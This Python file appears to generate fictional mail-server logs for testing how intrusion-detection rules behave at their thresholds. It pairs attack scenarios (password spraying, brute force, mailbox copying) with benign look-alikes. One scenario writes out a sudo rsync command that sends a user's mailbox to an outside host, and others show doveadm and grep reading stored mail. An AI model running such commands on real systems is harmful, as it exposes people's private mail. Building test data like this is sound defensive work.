"""A small mail host that never was: logs written line by line, to ask what a rule does at its threshold.

Sixteen people work there for some days, at the office, at home and by phone; a story adds what happened besides.
Times are Paris time, as minutes after midnight of a day in March 2026.
"""

import base64
import ipaddress
import os
import random
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

PARIS, UTC = ZoneInfo("Europe/Paris"), ZoneInfo("UTC")
DOMAIN, HOST, OFFICE = "mairie.example", "192.0.2.25", "192.0.2.70"
PEOPLE = ["ana", "bao", "cleo", "dirk", "elsa", "finn", "gita", "hugo", "ines", "jan", "kim", "lea", "mia", "noe",
          "ole", "pia"]
HOTEL, ELSEWHERE, STRANGER = "45.83.12.9", "88.120.7.44", "185.220.101.7"
FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
ODD = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:115.0) Gecko/20100101 Firefox/115.0"
LAST = 17


class Story:
    def __init__(self, days=5):
        self.lines = {"mail.log": [], "access.log": [], "userlogins.log": [], "auth.log": [], "audit.log": []}
        self.random, self.serial = random.Random(7), 0
        self.days = range(LAST - days, LAST + 1)
        for day in self.days:
            self.usual_day(day)

    # --- lines ---------------------------------------------------------------------------------------

    def put(self, log, when, text):
        self.serial += 1
        self.lines[log].append((when, self.serial, text))

    def mail(self, when, text):
        self.put("mail.log", when, f"{when.isoformat(timespec='microseconds')} mail {text}")

    def session(self, when, source):
        self.serial += 1
        usec = int(when.timestamp() * 1e6) - 300_000
        raw = usec.to_bytes(8, "little")[:6] + (20000 + self.serial % 40000).to_bytes(2, "little")
        return base64.b64encode(raw + ipaddress.ip_address(source).packed).decode().rstrip("=")

    def imap(self, when, person, source, bodies=0, size=4000, lasts=2.0, service="imap"):
        """A session that fetches so many bodies."""
        user, session, pid = f"{person}@{DOMAIN}", self.session(when, source), 1000 + self.serial % 30000
        lip = "127.0.0.1" if source == "127.0.0.1" else HOST
        self.mail(when, f"dovecot: {service}-login: Login: user=<{user}>, method=PLAIN, rip={source}, lip={lip}, "
                        f"mpid={pid}, TLS, session=<{session}>")
        self.mail(when + timedelta(seconds=lasts),
                  f"dovecot: {service}({user})<{pid}><{session}>: Disconnected: Logged out in={90 + bodies} "
                  f"out={900 + bodies * size} deleted=0 expunged=0 trashed=0 hdr_count=0 hdr_bytes=0 "
                  f"body_count={bodies} body_bytes={bodies * size}")

    def pop(self, when, person, source, count, total):
        user, session = f"{person}@{DOMAIN}", self.session(when, source)
        self.mail(when, f"dovecot: pop3-login: Login: user=<{user}>, method=PLAIN, rip={source}, lip={HOST}, mpid=77, "
                        f"TLS, session=<{session}>")
        self.mail(when + timedelta(seconds=2),
                  f"dovecot: pop3({user})<77><{session}>: Disconnected: Logged out top=0/0, "
                  f"retr={count}/{count * 5000}, del=0/{total}, size={total * 4980}")

    def fail(self, when, person, source):
        self.mail(when, f"dovecot: imap-login: Disconnected: Connection closed (auth failed, 1 attempts in 2 secs): "
                        f"user=<{person}@{DOMAIN}>, method=PLAIN, rip={source}, lip={HOST}, TLS, "
                        f"session=<{self.session(when - timedelta(seconds=1), source)}>")

    def send(self, when, person, source, size, *to):
        self.serial += 1
        queue, tag = f"{self.serial:X}".rjust(10, "A"), "postfix/submission/smtpd[91]"
        self.mail(when, f"{tag}: {queue}: client=unknown[{source}], sasl_method=PLAIN, sasl_username={person}@{DOMAIN}")
        self.mail(when, f"postfix/cleanup[93]: {queue}: message-id=<{queue}@{DOMAIN}>")
        self.mail(when, f"postfix/qmgr[68]: {queue}: from=<{person}@{DOMAIN}>, size={size}, nrcpt={len(to)} (queue active)")
        for address in to:
            self.mail(when + timedelta(seconds=1),
                      f"postfix/smtp[94]: {queue}: to=<{address}>, relay=mx.{address.split('@')[1]}[198.51.100.9]:25, "
                      f"delay=0.2, delays=0.1/0/0/0.1, dsn=2.0.0, status=sent (250 2.0.0 Ok)")
        self.mail(when + timedelta(seconds=2), f"postfix/qmgr[68]: {queue}: removed")

    def web(self, when, source, agent, request, status=200, size=20000):
        stamp = (when + timedelta(seconds=0.2)).strftime("%d/%b/%Y:%H:%M:%S %z")
        self.put("access.log", when + timedelta(seconds=0.2), f'{source} - - [{stamp}] "{request} HTTP/1.1" {status} {size} "-" "{agent}"')

    def web_sign_in(self, when, person, source, agent):
        self.web(when, source, agent, "POST /?_task=login", 302, 5)
        self.imap(when, person, "127.0.0.1", lasts=0.1)
        stamp = when.astimezone(UTC).strftime("%d-%b-%Y %H:%M:%S +0000")
        self.put("userlogins.log", when, f"[{stamp}]: <abcdefgh> Successful login for {person}@{DOMAIN} (ID: 3) "
                                         f"from {source} in session abcdefgh{self.serial:08d}")

    def web_read(self, when, person, source, agent, uid, part=None):
        what = f"_action=get&_part={part}&_download=1" if part else "_action=show"
        self.web(when, source, agent, f"GET /?_task=mail&_mbox=INBOX&_uid={uid}&{what}")
        self.imap(when, person, "127.0.0.1", 1, lasts=0.1)

    def web_filter(self, when, person, source, agent):
        self.web(when, source, agent, "POST /?_task=settings&_action=plugin.managesieve-save")
        self.imap(when, person, "127.0.0.1", lasts=0.1, service="managesieve")

    def ssh(self, when, user, source):
        self.put("auth.log", when, f"{when.isoformat(timespec='microseconds')} mail sshd[812]: "
                                   f"Accepted password for {user} from {source} port 40022 ssh2")

    def sudo(self, when, user, command):
        self.put("auth.log", when, f"{when.isoformat(timespec='microseconds')} mail sudo: {user} : TTY=pts/0 ; "
                                   f"PWD=/home/{user} ; USER=root ; COMMAND={command}")

    def audited(self, when, exe, login, path):
        """One file of the mail store opened on the host, as the kernel's audit tells."""
        self.serial += 1
        stamp = f"audit({when.timestamp():.3f}:{self.serial})"
        self.put("audit.log", when, f'type=SYSCALL msg={stamp}: arch=c000003e syscall=257 success=yes exit=3 items=1 '
                 f'ppid=3 pid=4 auid={login} uid=0 gid=0 euid=0 ses=9 comm="x" exe="{exe}" key="mailstore"')
        self.put("audit.log", when, f'type=PATH msg={stamp}: item=0 name="{path}" inode=12 dev=00:30 mode=0100600 '
                                    f'ouid=5000 ogid=5000 nametype=NORMAL')

    # --- days ----------------------------------------------------------------------------------------

    def usual_day(self, day):
        for n, person in enumerate(PEOPLE):
            at = self.random.randrange(480, 560)
            self.imap(moment(at, day), person, OFFICE, self.random.randrange(0, 6))
            self.imap(moment(at + 190, day), person, OFFICE, self.random.randrange(0, 4))
            self.imap(moment(1180 + n * 3, day), person, home(person), self.random.randrange(0, 3))
            if n % 3 == 0:
                self.imap(moment(1300 + n, day), person, f"37.170.{n}.{self.random.randrange(2, 250)}", 1)
            if n % 4 == 0:
                start = moment(720 + n * 5, day)
                self.web_sign_in(start, person, OFFICE, FIREFOX)
                for k in range(3):
                    self.web_read(start + timedelta(seconds=20 + 31 * k), person, OFFICE, FIREFOX, 40 + day + k)
            if n % 5 == 0:
                self.send(moment(660 + n, day), person, OFFICE, 6000, "contact@partner.example")

    def write(self, folder):
        paths = []
        for name, lines in self.lines.items():
            if lines:
                path = folder / name
                path.write_text("\n".join(text for _, _, text in sorted(lines)) + "\n")
                os.utime(path, (moment(0, LAST + 1).timestamp(),) * 2)
                paths.append(path)
        return paths


def home(person):
    n = PEOPLE.index(person)
    return f"{80 + n}.{11 * n + 3}.{7 * n + 5}.{n + 20}"


def moment(minutes, day=LAST):
    return datetime(2026, 3, day, tzinfo=PARIS) + timedelta(minutes=minutes)


def after(minutes, seconds, day=LAST):
    return moment(minutes, day) + timedelta(seconds=seconds)


# --- intruders --------------------------------------------------------------------------------------


def spray_six(s):
    """Six accounts tried, the sixth let in; three messages read."""
    for n, person in enumerate(PEOPLE[:6]):
        s.fail(after(600, 25 * n), person, STRANGER)
    s.imap(after(606, 0), "gita", STRANGER)
    s.imap(after(620, 0), "gita", STRANGER, 3)


def spray_goes_on(s):
    """The password is found before the spray is over."""
    for n, person in enumerate(PEOPLE[:14]):
        (s.imap if person == "hugo" else s.fail)(after(600, 25 * n), person, STRANGER)
    s.imap(after(640, 0), "hugo", STRANGER, 4)


def spray_many_sources(s):
    """Three addresses share the work."""
    sources = [STRANGER, "185.220.102.8", "91.132.137.61"]
    for n in range(30):
        s.fail(after(500, 240 * n), PEOPLE[n % 10], sources[n % 3])
    s.imap(after(630, 0), "noe", sources[1], 5)


def spray_first_day(s):
    spray_goes_on(s)


def brute_force(s):
    for n in range(40):
        s.fail(after(600, 4 * n), "kim", STRANGER)
    s.imap(after(604, 0), "kim", STRANGER, 9)


def read_everything_small(s):
    """A stolen password; a mailbox of a hundred and twenty is copied by IMAP."""
    s.imap(after(130, 0), "lea", STRANGER, 120, lasts=40)


def pop_eight(s):
    s.pop(after(240, 0), "mia", STRANGER, 8, 8)


def send_sixty(s):
    """A few messages read, one of 60 kB with documents sent to free mail."""
    s.imap(after(1100, 0), "dirk", STRANGER, 6)
    s.send(after(1108, 0), "dirk", STRANGER, 61000, "depot77@boite.example")


def silent_filter(s):
    """A filter that never forwards while the log lasts."""
    s.web_sign_in(after(780, 0), "elsa", STRANGER, ODD)
    for n in range(6):
        s.web_read(after(780, 20 + 14 * n), "elsa", STRANGER, ODD, 10 + n)
    s.web_filter(after(783, 0), "elsa", STRANGER, ODD)


def slow_script(s):
    """A script in the owner's session: forty messages, one a second."""
    s.web_sign_in(after(780, 0), "ines", OFFICE, FIREFOX)
    for n in range(40):
        s.web_read(after(781, n), "ines", OFFICE, FIREFOX, 100 + n)


def shell_grep(s):
    """grep -r over the store by somebody who signed in with ssh."""
    s.ssh(after(700, 0), "admin", STRANGER)
    for n in range(30):
        s.audited(after(702, n * 0.1), "/usr/bin/grep", 1000,
                  f"/var/vmail/{DOMAIN}/ana/Maildir/cur/17724312{n:02}.M20P27.mail,S=84,W=85:2,S")


def shell_sudo_only(s):
    """No audit: sudo tells that the store was packed and sent off."""
    s.ssh(after(700, 0), "admin", STRANGER)
    s.sudo(after(701, 0), "admin", "/usr/bin/ls -l /var/vmail")
    s.sudo(after(702, 0), "admin", f"/usr/bin/rsync -a /var/vmail/{DOMAIN}/ana backup@203.0.113.9:/srv/")


def shell_doveadm(s):
    s.ssh(after(700, 0), "admin", STRANGER)
    s.sudo(after(702, 0), "admin", f"/usr/bin/doveadm fetch -u ana@{DOMAIN} text mailbox INBOX")


def two_at_once(s):
    pop_eight(s)
    for n, person in enumerate(PEOPLE[:8]):
        s.fail(after(235, 25 * n), person, "91.132.137.61")
    s.imap(after(242, 0), "bao", "91.132.137.61", 4)


def behind_others(s):
    """A webmail intruder behind the address of another person's home, who reads mail there as well."""
    s.web_sign_in(after(776, 0), "jan", home("jan"), FIREFOX)
    for n in range(12):
        s.web_read(after(776, 20 + 31 * n), "jan", home("jan"), FIREFOX, 300 + n)
    s.web_sign_in(after(780, 0), "cleo", home("jan"), ODD)
    for n in range(8):
        s.web_read(after(780, 20 + 14 * n), "cleo", home("jan"), ODD, 10 + n, 2 if n % 3 == 2 else None)
    s.web_filter(after(783, 0), "cleo", home("jan"), ODD)


# --- honest people ----------------------------------------------------------------------------------


def traveller(s):
    """Twenty-five messages from a hotel, some of them by webmail with attachments."""
    s.imap(after(520, 0), "pia", HOTEL, 14)
    s.web_sign_in(after(1270, 0), "pia", HOTEL, FIREFOX)
    for n in range(11):
        s.web_read(after(1270, 30 + 25 * n), "pia", HOTEL, FIREFOX, 60 + n, 2 if n == 4 else None)
    s.send(after(1290, 0), "pia", HOTEL, 8000, "contact@partner.example", f"ana@{DOMAIN}")


def new_office(s):
    """Fifteen people move in behind an address never seen; some mistype."""
    for n, person in enumerate(PEOPLE[:15]):
        for k in range(n % 4 == 1):
            s.fail(after(530 + n, 10 * k), person, ELSEWHERE)
        s.imap(after(530 + n, 40), person, ELSEWHERE, 4 + n)


def new_office_bad_start(s):
    """The same, and six have trouble with the new proxy before the first gets in."""
    for n, person in enumerate(PEOPLE[:6]):
        s.fail(after(520, 30 * n), person, ELSEWHERE)
    new_office(s)


def mistyped_at_hotel(s):
    for n in range(6):
        s.fail(after(1260, 14 * n), "ole", HOTEL)
    s.imap(after(1262, 0), "ole", HOTEL, 9)


def old_password(s):
    """A phone tries the old password every ten minutes from the hotel; in the evening it is corrected."""
    for n in range(40):
        s.fail(after(540 + 10 * n, 7), "finn", HOTEL)
    s.imap(after(960, 0), "finn", HOTEL, 12)


def old_password_at_home(s):
    for n in range(200):
        s.fail(after(400 + 3 * n, 7), "finn", home("finn"))
    s.imap(after(1170, 0), "finn", home("finn"), 30)


def newsletter(s):
    s.send(after(1200, 0), "kim", home("kim"), 90000, *[f"reader{n}@abo{n % 40}.example" for n in range(300)])


def backup(s):
    """tar as root by cron, every night, with an audit rule on the store."""
    for day in s.days:
        for n in range(60):
            s.audited(after(150, n * 0.05, day), "/usr/bin/tar", 4294967295,
                      f"/var/vmail/{DOMAIN}/{PEOPLE[n % 16]}/Maildir/cur/17724312{n:02}.M20P27.mail,S=84,W=85:2,S")


def backup_by_hand(s):
    """The administrator's own backup: the same program and login, every evening."""
    for day in s.days:
        s.ssh(after(1100, 0, day), "admin", OFFICE)
        s.sudo(after(1101, 0, day), "admin", "/usr/bin/rsync -a /var/vmail backup.mairie.example::store")
        for n in range(20):
            s.audited(after(1101, n * 0.05, day), "/usr/bin/rsync", 1000,
                      f"/var/vmail/{DOMAIN}/{PEOPLE[n % 16]}/Maildir/cur/17724312{n:02}.M20P27.mail,S=84,W=85:2,S")


def new_phone(s):
    """A new phone copies the mailbox over the mobile network that colleagues use."""
    s.imap(after(1150, 0), "lea", "37.170.14.77", 140, lasts=60)


def new_line_at_home(s):
    """A new provider at home; the evening's mail is read, one answer has an attachment."""
    s.imap(after(1190, 0), "bao", ELSEWHERE, 20)
    s.send(after(1200, 0), "bao", ELSEWHERE, 45000, "contact@partner.example")


def cleaning_up(s):
    """Somebody skims through webmail by hand, quickly: one message every three seconds."""
    s.web_sign_in(after(780, 0), "ines", OFFICE, FIREFOX)
    for n in range(45):
        s.web_read(after(781, 3 * n), "ines", OFFICE, FIREFOX, 100 + n)


def vacation_filter(s):
    """A traveller sets an absence notice, after a look at two messages."""
    s.web_sign_in(after(780, 0), "elsa", HOTEL, FIREFOX)
    for n in range(2):
        s.web_read(after(780, 40 + 34 * n), "elsa", HOTEL, FIREFOX, 10 + n)
    s.web_filter(after(783, 0), "elsa", HOTEL, FIREFOX)


def administrator(s):
    """The administrator looks after the store with sudo, from the office, as on other days."""
    for day in s.days:
        s.ssh(after(600, 0, day), "admin", OFFICE)
        s.sudo(after(601, 0, day), "admin", "/usr/bin/du -sh /var/vmail")
        s.sudo(after(602, 0, day), "admin", "/usr/bin/systemctl restart dovecot")
        s.sudo(after(603, 0, day), "admin", "/usr/bin/doveadm quota recalc -A")
